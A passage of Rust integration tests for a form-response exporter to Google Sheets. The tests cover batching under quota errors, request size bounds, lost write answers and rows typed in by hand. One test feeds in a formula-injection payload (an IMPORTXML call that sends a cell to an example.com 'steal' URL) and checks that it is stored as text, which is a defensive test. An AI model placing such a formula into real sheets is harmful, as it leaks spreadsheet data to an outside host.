    let dir = tempfile::tempdir().expect("temp dir");
    let form_id = format!("a{}", unique());
    let sheet = fake.create_spreadsheet("A");
    fake.add_tab(&sheet, "responses");
    fake.fill_tab(&sheet, "responses", earlier_rows(EARLIER));
    producer
        .form(&form(
            &form_id,
            vec![version(1, v1_questions(), Some(&sheet))],
        ))
        .await;
    // Already written by the earlier run (same revision), and one new response.
    producer
        .responses(&[
            (0, simple(&form_id, "old-000007", 0)),
            (0, simple(&form_id, "r-new", 0)),
        ])
        .await;
    // Google's answer time; a timeout as in production, so that a slow answer is not retried.
    fake.set_latency(Duration::from_millis(200));
    let mut flags = fast_google_flags(&fake, dir.path(), &format!("test-{}-ledger", unique()));
    let at = flags
        .iter()
        .position(|f| f == "--sheets-timeout")
        .expect("a timeout flag");
    flags[at + 1] = "60s".to_owned();
    let reads = fake.read_requests();
    let started = std::time::Instant::now();
    let runtime = start(&topics, &flags).await;
    eventually(Duration::from_secs(60), "the new row written", || {
        let rows = fake.data_rows("responses");
        async move { rows > EARLIER }
    })
    .await;
    eprintln!(
        "first write {:.2} s after the exporter's start",
        started.elapsed().as_secs_f64()
    );
    wait_done(&topics, Duration::from_secs(30)).await;
    let rows = rows_by_id(&fake, std::slice::from_ref(&sheet));
    assert_eq!(rows.len(), EARLIER + 1, "only the new response appended");
    assert!(rows.contains_key("r-new"));
    assert_eq!(fake.read_requests() - reads, 1, "one read-back");
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}

/// The bytes `rows` take as the `CellData` of an `appendCells` (what a `spreadsheets.batchUpdate`
/// carries for new rows), at the least: each cell as the exporter's `cell_data` makes it, with its
/// comma, and each row's `{"values":[...]}`; the request around them not counted.
fn cell_data_bytes(rows: &[Vec<Value>]) -> usize {
    rows.iter()
        .map(|row| {
            14 + row
                .iter()
                .map(|v| {
                    serde_json::to_string(&formstream_sheets::api::cell_data(v))
                        .map_or(0, |s| s.len() + 1)
                })
                .sum::<usize>()
        })
        .sum()
}

/// A response of [`v1_questions`] with every question answered, as a field team sends them.
fn full(form_id: &str, id: &str, revision: i32) -> Response {
    response(
        form_id,
        1,
        id,
        revision,
        &[
            (
                "name",
                &format!("Asha Kulkarni {id} r{revision}"),
                &[],
                None,
            ),
            ("city", "", &["pune"], None),
            ("langs", "", &["hi", "mr"], None),
            ("income", "25000", &[], Some(25000.0)),
        ],
    )
}

/// Holds the exporter's writes (every one answered 429) until `rows` more records are in flight
/// in it, waiting in its batcher, so that they leave in one flush once the quota is back.
async fn gather_in_one_flush(fake: &FakeSheets, runtime: &RunningRuntime, rows: usize) {
    eventually(Duration::from_secs(60), "every row waiting", || async {
        runtime
            .metric("formstream_processor_records_in_flight", &[])
            .await
            >= rows as f64
    })
    .await;
    fake.set_exhausted(false);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_big_flush_goes_by_values_append_in_fewer_writes_than_cell_data_can() {
    init_logs();
    const MAX_BYTES: usize = 20_000;
    const ROWS: usize = 1_500;
    let OneForm {
        fake,
        topics,
        producer,
        form: a,
        sheet,
        runtime,
        ..
    } = OneForm::start_full(
        1,
        "100ms",
        &["--sheets-max-request-bytes", &MAX_BYTES.to_string()],
        &["--max-in-flight", "10000"],
        true,
    )
    .await;
    let count = |fake: &FakeSheets| (fake.write_requests() - fake.throttled(), fake.write_bytes());

    // New rows only: the first write waits on 429s while the others gather behind it.
    let (writes, bytes) = count(&fake);
    fake.set_exhausted(true);
    producer.responses(&[(0, full(&a, "r0000", 0))]).await;
    let items: Vec<(i32, Response)> = (1..ROWS)
        .map(|i| (0, full(&a, &format!("r{i:04}"), 0)))
        .collect();
    producer.responses(&items).await;
    gather_in_one_flush(&fake, &runtime, ROWS).await;
    wait_done(&topics, Duration::from_secs(120)).await;
    let rows = fake.rows(&sheet, "responses");
    assert_eq!(rows.len(), ROWS + 1, "one row per response, no duplicate");
    assert_eq!(rows_by_id(&fake, std::slice::from_ref(&sheet)).len(), ROWS);
    let (writes, bytes) = {
        let (w, b) = count(&fake);
        (w - writes, b - bytes)
    };
    let cell_data = cell_data_bytes(&rows[1..]);
    let fewest = cell_data.div_ceil(MAX_BYTES);
    eprintln!(
        "new rows: {writes} writes, {bytes} bytes; as CellData at least {fewest} writes, {cell_data} bytes"
    );
    assert!(fake.value_appends() >= 2, "the rows went by values.append");
    assert!(
        writes < fewest,
        "{writes} writes where CellData needs at least {fewest}"
    );
    assert!(
        bytes < cell_data,
        "{bytes} bytes sent, {cell_data} as CellData"
    );
    assert!(
        fake.largest_write() <= MAX_BYTES,
        "no request over the bound"
    );

    // Corrections and new rows in one flush: the corrections' write carries new rows too, the
    // rest go by values.append; still fewer writes than CellData could make it.
    let (writes, _) = count(&fake);
    fake.set_exhausted(true);
    let mut items: Vec<(i32, Response)> = (0..20)
        .map(|i| (0, full(&a, &format!("r{i:04}"), 1)))
        .collect();
    items.extend((ROWS..2 * ROWS).map(|i| (0, full(&a, &format!("r{i:04}"), 0))));
    producer.responses(&items).await;
    gather_in_one_flush(&fake, &runtime, items.len()).await;
    wait_done(&topics, Duration::from_secs(120)).await;
    let rows = fake.rows(&sheet, "responses");
    assert_eq!(
        rows.len(),
        2 * ROWS + 1,
        "one row per response, no duplicate"
    );
    let by_id = rows_by_id(&fake, std::slice::from_ref(&sheet));
    for i in 0..2 * ROWS {
        let expected = i64::from(i < 20);
        assert_eq!(revision(&by_id[&format!("r{i:04}")]), expected, "r{i:04}");
    }
    let writes = count(&fake).0 - writes;
    let fewest = cell_data_bytes(&rows[ROWS + 1..]).div_ceil(MAX_BYTES);
    eprintln!("corrections and new rows: {writes} writes; as CellData at least {fewest}");
    assert!(
        writes < fewest,
        "{writes} writes where CellData needs at least {fewest}"
    );
    assert!(
        fake.largest_write() <= MAX_BYTES,
        "no request over the bound"
    );
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_values_append_whose_answer_is_lost_adds_no_row_twice() {
    init_logs();
    let OneForm {
        fake,
        topics,
        producer,
        form: a,
        sheet,
        runtime,
        ..
    } = OneForm::start_full(1, "100ms", &[], &[], true).await;
    producer.responses(&[(0, simple(&a, "r00", 0))]).await;
    wait_done(&topics, Duration::from_secs(60)).await;
    let appends = fake.value_appends();
    let reads = fake.read_requests();

    // Applied, then answered 503; then applied, and answered after the exporter's timeout (2 s).
    let faults = [
        Fault::FailAfter(503),
        Fault::SlowAfter(Duration::from_secs(3)),
    ];
    for (round, fault) in faults.into_iter().enumerate() {
        fake.fail_next_writes(1, fault);
        let items: Vec<(i32, Response)> = (1..=10)
            .map(|i| (0, simple(&a, &format!("r{round}{i:02}"), 0)))
            .collect();
        producer.responses(&items).await;
        wait_done(&topics, Duration::from_secs(60)).await;
        assert_eq!(fake.pending_faults(), 0, "the fault was met");
    }
    assert!(
        fake.value_appends() - appends >= 2,
        "the faulted writes were values.append"
    );
    assert!(
        fake.read_requests() - reads >= 2,
        "each lost answer was read back"
    );
    assert_eq!(rows_by_id(&fake, std::slice::from_ref(&sheet)).len(), 21);
    assert_eq!(fake.rows(&sheet, "responses").len(), 22, "no row twice");
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_row_appended_by_another_writer_meanwhile_is_detected_and_read_back() {
    init_logs();
    let OneForm {
        fake,
        topics,
        producer,
        form: a,
        sheet,
        runtime,
        ..
    } = OneForm::start_full(1, "100ms", &[], &[], true).await;
    let items: Vec<(i32, Response)> = (0..5)
        .map(|i| (0, simple(&a, &format!("r{i:02}"), 0)))
        .collect();
    producer.responses(&items).await;
    wait_done(&topics, Duration::from_secs(60)).await;

    // Someone types a row below the exporter's: its next rows land one row lower than it thinks.
    let typed = vec![
        Value::from("typed by hand"),
        Value::from(""),
        Value::from("a note"),
    ];
    fake.append_row(&sheet, "responses", typed.clone());
    let items: Vec<(i32, Response)> = (5..10)
        .map(|i| (0, simple(&a, &format!("r{i:02}"), 0)))
        .collect();
    producer.responses(&items).await;
    wait_done(&topics, Duration::from_secs(60)).await;
    // A correction goes to its row as read back, not to the row the exporter meant (r06's).
    producer.responses(&[(0, simple(&a, "r07", 1))]).await;
    wait_done(&topics, Duration::from_secs(60)).await;

    let rows = fake.rows(&sheet, "responses");
    assert_eq!(rows.len(), 12, "the header, ten rows and the typed one");
    assert_eq!(rows[6], typed, "the typed row is kept where it was typed");
    let by_id = rows_by_id(&fake, std::slice::from_ref(&sheet));
    for i in 0..10 {
        let id = format!("r{i:02}");
        let expected = i64::from(i == 7);
        assert_eq!(revision(&by_id[&id]), expected, "{id}");
        assert_eq!(by_id[&id][4], format!("name {id} r{expected}"), "{id}");
    }
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_answer_that_looks_like_a_formula_or_a_number_is_stored_as_its_text() {
    init_logs();
    let OneForm {
        fake,
        topics,
        producer,
        form: a,
        sheet,
        runtime,
        ..
    } = OneForm::start_full(1, "100ms", &[], &[], true).await;
    let formula = r#"=IMPORTXML("https://example.com/steal?"&A2,"//a")"#;
    producer
        .responses(&[
            (0, response(&a, 1, "r1", 0, &[("name", formula, &[], None)])),
            (0, response(&a, 1, "r2", 0, &[("name", "0042", &[], None)])),
        ])
        .await;
    wait_done(&topics, Duration::from_secs(60)).await;
    assert!(fake.value_appends() >= 1, "written by values.append");
    let by_id = rows_by_id(&fake, std::slice::from_ref(&sheet));
    assert_eq!(by_id["r1"][4], Value::from(formula), "the formula as text");
    assert_eq!(by_id["r2"][4], Value::from("0042"), "the digits as text");
    runtime.stop().await.expect("clean stop");
    topics.delete().await;
}
